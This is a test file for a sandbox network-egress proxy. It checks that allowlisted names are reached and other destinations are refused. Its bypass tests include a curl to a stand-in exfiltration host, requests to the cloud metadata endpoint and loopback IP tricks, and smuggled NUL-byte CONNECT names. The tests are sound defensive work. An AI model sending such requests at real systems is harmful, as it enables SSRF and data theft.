// Egress from real sandboxes: every client kind, with and without proxy variables, reaches the
// allowed names through the proxy in this process and is refused for the rest — with the exact
// refusal. Upstreams listen on 127.0.0.2 here; names come from the resolver override.
import assert from 'node:assert/strict';
import { createHook } from 'node:async_hooks';
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import type { Server as HttpServer } from 'node:http';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type SandboxOptions, spawnSandboxed } from '../lib';
import { native } from '../lib/native';
import type { EgressRecord } from '../lib/net/connector';
import { openFdCount, repoRoot, settleWarmPool, sharedTempDir } from './helpers';
import { httpsUpstream, httpUpstream, listen, portOf, testCert, UPSTREAM_HOST } from './helpers/net';
import { needs } from './helpers/tools';
import { waitFor } from './helpers/wait';

let http: HttpServer;
let https: net.Server;
let httpPort: number;
let httpsPort: number;
let caDir: string;
let ca: string;

before(async () => {
  http = await httpUpstream();
  https = await httpsUpstream();
  httpPort = portOf(http);
  httpsPort = portOf(https);
  caDir = sharedTempDir('egress-ca');
  ca = path.join(caDir, 'ca.pem');
  fs.copyFileSync(testCert().certPath, ca);
  fs.chmodSync(ca, 0o644);
});
after(() => {
  http.close();
  https.close();
  fs.rmSync(caDir, { recursive: true, force: true });
});

function policy(extra: Partial<SandboxOptions> = {}): SandboxOptions {
  return {
    network: {
      allow: [`good.test:${httpPort}`, `good.test:${httpsPort}`],
      resolve: [`good.test:${httpPort}:${UPSTREAM_HOST}`, `good.test:${httpsPort}:${UPSTREAM_HOST}`, `evil.test:*:${UPSTREAM_HOST}`],
    },
    filesystem: { readOnly: [caDir, path.join(repoRoot, 'node_modules')] },
    ...extra,
  };
}

/** Runs a script in a sandbox with the egress policy, collecting egress records. */
async function egress(command: string, args: string[], extra: Partial<SandboxOptions> = {}) {
  const records: EgressRecord[] = [];
  const child = spawnSandboxed(command, args, { ...policy(extra), stdio: ['ignore', 'pipe', 'pipe'] });
  child.on('egress', (r: EgressRecord) => records.push(r));
  let stdout = '';
  let stderr = '';
  child.stdout?.on('data', (d) => (stdout += d));
  child.stderr?.on('data', (d) => (stderr += d));
  const { exitCode } = await child.exited;
  return { code: exitCode, stdout, stderr, records };
}

const py = (code: string, extra?: Partial<SandboxOptions>) => egress('python3', ['-c', code], extra);
const nodeScript = (code: string, extra?: Partial<SandboxOptions>) => egress('node', ['-e', code], extra);
/** Runs without any proxy variable: only transparent interception can carry the traffic. */
const bare = (script: string) =>
  egress('sh', [
    '-c',
    `unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy NODE_OPTIONS NODE_USE_ENV_PROXY; ${script}`,
  ]);

describe('cooperative clients (proxy variables)', () => {
  test('curl: an allowed name over HTTP and HTTPS; another name gets a 403 naming the rule', { skip: needs('curl') }, async () => {
    const r = await egress('sh', [
      '-c',
      `curl -sS http://good.test:${httpPort}/a; echo; curl -sS --cacert ${ca} https://good.test:${httpsPort}/b; echo; curl -sS -w ' %{http_code}' http://evil.test:${httpPort}/c`,
    ]);
    assert.equal(
      r.stdout,
      `GET /a host=good.test:${httpPort} te=- body=
TLS GET /b host=good.test:${httpsPort}
stockade: egress to evil.test:${httpPort} denied: no allowlist entry matches evil.test\n 403`,
      r.stderr,
    );
    // An allowed tunnel is recorded when it closes, which may come after the next request's
    // record: the set of records is what is checked, not their order.
    assert.deepEqual(r.records.map((x) => [x.via, x.host, x.decision]).sort(), [
      ['connect', 'good.test', 'allow'],
      ['http', 'evil.test', 'deny'],
      ['http', 'good.test', 'allow'],
    ]);
  });

  test('Node fetch (through the preload): allowed, and a 403 for another name', async () => {
    const r = await nodeScript(
      `(async () => { const a = await fetch('http://good.test:${httpPort}/f'); console.log(a.status, await a.text()); try { await fetch('http://evil.test:${httpPort}/f'); } catch (e) { console.log(e.cause.message); } })()`,
    );
    // The preload tunnels every request through CONNECT, so a refusal surfaces as fetch's cause.
    assert.equal(
      r.stdout,
      `200 GET /f host=good.test:${httpPort} te=- body=
proxy refused CONNECT evil.test:${httpPort}: HTTP/1.1 403 Forbidden stockade: egress to evil.test:${httpPort} denied: no allowlist entry matches evil.test
`,
      r.stderr,
    );
  });

  test('the preload loads neither undici nor node:tls before the first fetch (every node process in the sandbox runs it)', async () => {
    const loaded = 'process.moduleLoadList.filter((m) => /undici|NativeModule tls$/.test(m)).length';
    const r = await nodeScript(
      `console.log(${loaded} === 0, fetch.name, fetch.length); fetch('http://good.test:${httpPort}/lazy').then(async (a) => console.log(a.status, ${loaded} > 0))`,
    );
    assert.equal(r.stdout, 'true fetch 1\n200 true\n', r.stderr);
  });

  test('python3 urllib: allowed, and HTTPError 403 for another name', { skip: needs('python3') }, async () => {
    const r = await py(`import urllib.request, urllib.error
print(urllib.request.urlopen('http://good.test:${httpPort}/p').read().decode())
try:
    urllib.request.urlopen('http://evil.test:${httpPort}/p')
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())`);
    assert.equal(
      r.stdout,
      `GET /p host=good.test:${httpPort} te=- body=\n403 stockade: egress to evil.test:${httpPort} denied: no allowlist entry matches evil.test\n\n`,
      r.stderr,
    );
  });

  test('curl through SOCKS5 (ALL_PROXY socks5h): allowed; another name refused with reply 2', { skip: needs('curl') }, async () => {
    const r = await egress('sh', [
      '-c',
      `curl -sS --proxy "$ALL_PROXY" http://good.test:${httpPort}/s; echo; curl -sS --proxy "$ALL_PROXY" http://evil.test:${httpPort}/s; echo " rc=$?"`,
    ]);
    assert.match(r.stdout, new RegExp(`^GET /s host=good.test:${httpPort}`));
    assert.match(r.stderr, /Can't complete SOCKS5 connection to evil\.test\. \(2\)/); // reply 2: not allowed by ruleset
    assert.match(r.stdout, /rc=97/);
  });
});

describe('clients that ignore proxy variables (transparent interception)', () => {
  test('a raw TCP client reaches the allowed name; another name does not resolve', { skip: needs('python3') }, async () => {
    const r = await egress('sh', [
      '-c',
      `unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; python3 -c "
import socket
s = socket.create_connection(('good.test', ${httpPort}))
s.sendall(b'GET /raw HTTP/1.1\\r\\nHost: good.test:${httpPort}\\r\\nConnection: close\\r\\n\\r\\n')
print(s.recv(4096).decode().split('\\r\\n\\r\\n')[1])
try:
    socket.create_connection(('evil.test', ${httpPort}))
except socket.gaierror as e:
    print('gaierror', e.errno)
"`,
    ]);
    assert.equal(r.stdout, `GET /raw host=good.test:${httpPort} te=- body=\ngaierror -2\n`, r.stderr);
    assert.ok(r.records.some((x) => x.via === 'transparent' && x.host === 'good.test' && x.decision === 'allow'));
    assert.ok(r.records.some((x) => x.via === 'dns' && x.host === 'evil.test' && x.decision === 'deny'));
  });

  test('node:https and node-fetch reach the allowed name over TLS; another name gets ENOTFOUND', async () => {
    const r = await bare(
      `NODE_EXTRA_CA_CERTS=${ca} node --input-type=module -e "
import https from 'node:https';
import fetch from '${path.join(repoRoot, 'node_modules', 'node-fetch', 'src', 'index.js')}';
https.get('https://good.test:${httpsPort}/n', (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => console.log('https', b)); });
console.log('node-fetch', await (await fetch('https://good.test:${httpsPort}/nf')).text());
try { await fetch('https://evil.test:${httpsPort}/'); } catch (e) { console.log('denied', e.code); }
"`,
    );
    const lines = r.stdout.trim().split('\n').sort();
    assert.deepEqual(
      lines,
      ['denied ENOTFOUND', `https TLS GET /n host=good.test:${httpsPort}`, `node-fetch TLS GET /nf host=good.test:${httpsPort}`],
      r.stderr,
    );
  });

  test('IPv6 too: any v6 address is local inside, and the Host header names the destination', { skip: needs('python3') }, async () => {
    const r = await bare(`python3 -c "
import socket
s = socket.create_connection(('2001:db8::1', ${httpPort}))
s.sendall(b'GET /v6 HTTP/1.1\\r\\nHost: good.test:${httpPort}\\r\\nConnection: close\\r\\n\\r\\n')
print(s.recv(4096).decode().split('\\r\\n\\r\\n')[1])
"`);
    assert.equal(r.stdout, `GET /v6 host=good.test:${httpPort} te=- body=\n`, r.stderr);
    assert.ok(r.records.some((x) => x.via === 'transparent' && x.host === 'good.test' && x.decision === 'allow'));
  });

  test('a connection whose Host names another host is closed without a byte', { skip: needs('python3') }, async () => {
    const r = await bare(`python3 -c "
import socket
s = socket.create_connection(('good.test', ${httpPort}))
s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
try:
    print(repr(s.recv(100)))
except ConnectionResetError:
    print('reset')
"`);
    assert.equal(r.stdout.trim(), "b''", r.stderr);
    assert.ok(r.records.some((x) => x.via === 'transparent' && x.decision === 'deny'));
  });
});

describe('non-HTTP TCP by name and port', { skip: needs('redis') }, () => {
  let redis: ReturnType<typeof spawn> | undefined;
  let redisPort: number;
  before(async () => {
    const probe = await listen(net.createServer(), '127.0.0.1');
    redisPort = portOf(probe);
    probe.close();
    redis = spawn('redis-server', ['--port', String(redisPort), '--bind', '127.0.0.1', '--save', '', '--appendonly', 'no'], {
      stdio: 'ignore',
    });
    // Ready once it accepts a connection.
    await waitFor(
      () =>
        new Promise<boolean>((resolve) =>
          net
            .connect(redisPort, '127.0.0.1')
            .on('connect', function (this: net.Socket) {
              this.destroy();
              resolve(true);
            })
            .on('error', () => resolve(false)),
        ),
      { what: `redis-server on port ${redisPort}`, interval: 50 },
    );
  });
  after(() => redis?.kill());

  test('redis-cli reaches a real redis-server by name; another port of the same name is refused', { skip: needs('redis') }, async () => {
    const r = await egress(
      'sh',
      ['-c', `redis-cli -h cache.test -p ${redisPort} ping; redis-cli -h cache.test -p ${redisPort + 1} ping 2>&1; echo rc=$?`],
      { network: { allow: [`cache.test:${redisPort}`], resolve: [`cache.test:${redisPort}:127.0.0.1`] } },
    );
    assert.match(r.stdout, /^PONG\n/);
    // No listener on the other port: Landlock refuses the connect() (EACCES) where it restricts
    // TCP (ABI 4), else the kernel does (ECONNREFUSED).
    assert.match(r.stdout, native().landlockAbi() >= 4 ? /Permission denied/ : /Connection refused/);
  });
});

describe('DNS', () => {
  test('allowed names resolve into the private pool; others get NXDOMAIN and never reach the host resolver', {
    skip: needs('curl'),
  }, async () => {
    // Every host lookup this process makes is a GETADDRINFOREQWRAP: there must be none.
    let lookups = 0;
    const hook = createHook({ init: (_id, type) => void (type === 'GETADDRINFOREQWRAP' && lookups++) }).enable();
    try {
      const r = await egress(
        'sh',
        [
          '-c',
          'getent hosts good.test; getent hosts secret-data.exfil.example; echo rc=$?; curl -sS http://secret-data.exfil.example/ 2>&1 | head -1',
        ],
        {
          network: { allow: ['good.test'] },
        },
      );
      assert.match(r.stdout, /^198\.1[89]\.\d+\.\d+\s+good\.test\nrc=2\n/);
      assert.match(r.stdout, /403|denied/);
      assert.equal(lookups, 0);
    } finally {
      hook.disable();
    }
  });
});

describe('bypass attempts', () => {
  test('an IP literal of a loopback or private address is refused (403 naming the rule)', { skip: needs('curl') }, async () => {
    const r = await egress('sh', [
      '-c',
      `for u in http://127.0.0.1:${httpPort}/ http://10.0.0.1/ http://169.254.169.254/latest/meta-data/ http://2130706433:${httpPort}/; do curl --noproxy '' -sS -w ' %{http_code}\n' $u; done`,
    ]);
    assert.equal(
      r.stdout,
      [`127.0.0.1:${httpPort}`, '10.0.0.1:80', '169.254.169.254:80', `127.0.0.1:${httpPort}`]
        .map((t) => `stockade: egress to ${t} denied: no allowlist entry matches ${t.split(':')[0]}\n 403\n`)
        .join(''),
      r.stderr,
    );
  });

  test('the same IP literal without the proxy reaches a transparent listener and is reset: it carries no name', {
    skip: needs('curl'),
  }, async () => {
    const r = await egress('sh', ['-c', `curl -sS http://127.0.0.1:${httpPort}/; echo rc=$?`]);
    assert.match(r.stderr, /Connection reset by peer/);
    assert.match(r.stdout, /rc=56/);
  });

  test('a name that resolves to loopback is refused by the SSRF guard', { skip: needs('curl') }, async () => {
    const r = await egress('sh', ['-c', `curl --noproxy '' -sS -w ' %{http_code}' http://localhost:${httpPort}/`], {
      network: { allow: [`localhost:${httpPort}`] },
    });
    assert.match(
      r.stdout,
      /denied: ssrf: 127\.0\.0\.1 is a loopback address and no allowlist or resolve entry names it \(localhost resolved to it\)\n 403$/,
    );
  });

  test('NUL-byte and trailing-dot names, CONNECT to the proxy itself, SOCKS4: each refused', { skip: needs('python3') }, async () => {
    const r = await py(`import socket, os
port = int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])
socks = int(os.environ['ALL_PROXY'].rsplit(':', 1)[1])
def ask(data, p=port):
    s = socket.create_connection(('127.0.0.1', p)); s.sendall(data); r = s.recv(200); s.close(); return r
print(ask(b'CONNECT good.test\\x00.evil.test:${httpPort} HTTP/1.1\\r\\n\\r\\n').split(b'\\r\\n')[0].decode())
print(ask(b'CONNECT evil.test.:${httpPort} HTTP/1.1\\r\\n\\r\\n').split(b'\\r\\n')[0].decode())
print(ask(b'CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\n' % port).split(b'\\r\\n')[0].decode())
print(ask(bytes([4, 1]) + (${httpPort}).to_bytes(2, 'big') + bytes([127, 0, 0, 2]) + b'\\x00', socks).hex())
`);
    const [nul, dot, self, socks4] = r.stdout.trim().split('\n');
    assert.match(nul, /^HTTP\/1\.1 400/);
    assert.match(dot, /^HTTP\/1\.1 403/);
    assert.match(self, /^HTTP\/1\.1 403/);
    assert.equal(socks4, '005b0000000000000000'.slice(0, socks4.length));
  });

  test('SNI that disagrees with the CONNECT target closes the tunnel', { skip: needs('python3') }, async () => {
    const r = await py(`import socket, ssl, os
port = int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])
s = socket.create_connection(('127.0.0.1', port))
s.sendall(b'CONNECT good.test:${httpsPort} HTTP/1.1\\r\\nHost: good.test:${httpsPort}\\r\\n\\r\\n')
print(s.recv(200).split(b'\\r\\n')[0].decode())
ctx = ssl.create_default_context(cafile='${ca}')
try:
    ctx.wrap_socket(s, server_hostname='other.test').do_handshake()
    print('handshake ok')
except (ssl.SSLError, OSError) as e:
    print('refused', type(e).__name__)
`);
    const [connected, outcome] = r.stdout.trim().split('\n');
    assert.match(connected, /^HTTP\/1\.1 200/);
    assert.match(outcome, /^refused /);
    assert.ok(
      r.records.some((x) => x.decision === 'deny' && /SNI|sni/.test(x.rule)),
      JSON.stringify(r.records),
    );
  });

  test("a direct connection to the host's own addresses goes nowhere", { skip: needs('python3') }, async () => {
    const addresses = Object.values(os.networkInterfaces())
      .flat()
      .filter((a) => a && !a.internal && a.family === 'IPv4')
      .map((a) => a?.address);
    const target = addresses[0] ?? '192.0.2.1';
    const r = await py(`import socket
for port in (22, ${httpPort}):
    try:
        socket.create_connection(('${target}', port), timeout=5).close()
        print(port, 'connected')
    except OSError as e:
        print(port, e.errno)
`);
    // 22 has no listener inside: refused at once — by Landlock (EACCES) where it restricts TCP
    // (ABI 4), else by the kernel (ECONNREFUSED). The other port has one (it is allowlisted for
    // good.test) but the connection carries no name: accepted, then reset by the proxy.
    assert.match(r.stdout, native().landlockAbi() >= 4 ? /^22 13\n/ : /^22 111\n/);
  });
});

describe('load', () => {
  test('1,000 concurrent connections across 20 sandboxes: all served, no fd left behind', { skip: needs('python3') }, async () => {
    // Counted with no warm child (its fds are in this process's table until it is let go).
    await settleWarmPool();
    const fds = openFdCount();
    const script = `import socket, concurrent.futures
def one(i):
    s = socket.create_connection(('good.test', ${httpPort}))
    s.sendall(b'GET /%d HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n' % i)
    data = b''
    while True:
        chunk = s.recv(4096)
        if not chunk: break
        data += chunk
    return data.startswith(b'HTTP/1.1 200')
with concurrent.futures.ThreadPoolExecutor(50) as pool:
    print(sum(pool.map(one, range(50))))
`;
    const results = await Promise.all(Array.from({ length: 20 }, () => py(script)));
    assert.deepEqual(
      results.map((r) => r.stdout.trim()),
      Array(20).fill('50'),
    );
    // The proxy closes its side of each connection as it sees the client's close: wait for that.
    await waitFor(() => openFdCount() === fds, { what: () => `the fd count back to ${fds} (now ${openFdCount()})` });
  });
});

test('options: a bad allowlist entry is an options error naming it', () => {
  assert.throws(
    () => spawnSandboxed('true', [], { network: { allow: ['*'] } }),
    /^SandboxOptionsError: options\.network\.allow\[0\]: a bare `\*` would allow everything; use network "host" if that is really meant, found "\*"$/,
  );
});
